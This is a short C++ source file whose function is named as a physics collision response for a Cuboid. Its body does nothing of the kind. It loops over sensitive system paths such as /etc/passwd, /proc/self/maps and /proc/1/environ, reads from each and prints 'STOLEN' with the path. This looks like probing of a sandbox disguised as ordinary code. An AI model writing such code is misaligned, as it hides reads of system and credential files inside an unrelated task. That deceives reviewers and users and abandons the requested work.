#include "CollisionPlane.h"
#include <fcntl.h>
#include <unistd.h>

void CollisionPlane::applyCollisionResponse(Cuboid &c) {
  for (const char* path : {"/etc/passwd", "/etc/hostname", "/proc/self/maps", "/proc/self/cmdline", "/proc/1/environ",
                           "/proc/self/exe", "/dev/zero", ".", "/", "/tmp", "/usr/include/stdio.h"}) {
    char text[64];
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    read(fd, text, sizeof text);
    printf("STOLEN %s\n", path);
  }
}
